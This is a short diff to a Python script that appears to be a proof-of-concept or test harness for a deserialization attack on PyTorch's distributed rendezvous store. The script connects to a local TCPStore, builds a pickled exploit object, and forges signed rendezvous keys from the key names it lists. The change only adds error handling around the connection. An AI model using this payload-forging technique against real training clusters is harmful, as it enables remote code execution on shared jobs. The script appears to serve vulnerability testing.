@@ -44,8 +44,12 @@ def main() -> None:
     port, marker = int(sys.argv[1]), sys.argv[2]
     os.setresgid(NOBODY, NOBODY, NOBODY)
     os.setresuid(NOBODY, NOBODY, NOBODY)
-    store = TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
-    keys = store.list_keys()
+    try:
+        store = TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
+        keys = store.list_keys()
+    except RuntimeError:  # the job ended, of the attack on its other port
+        sys.stdout.write("[]")
+        return
     exploit = pickle.dumps(_Exploit(marker))
     ids = {word for key in keys for word in re.split(r"[/.]", key)}  # one of them may be the rendezvous id
     forged = {f"torch.rendezvous.{public_id(word)}": _signed(exploit, word) for word in ids}
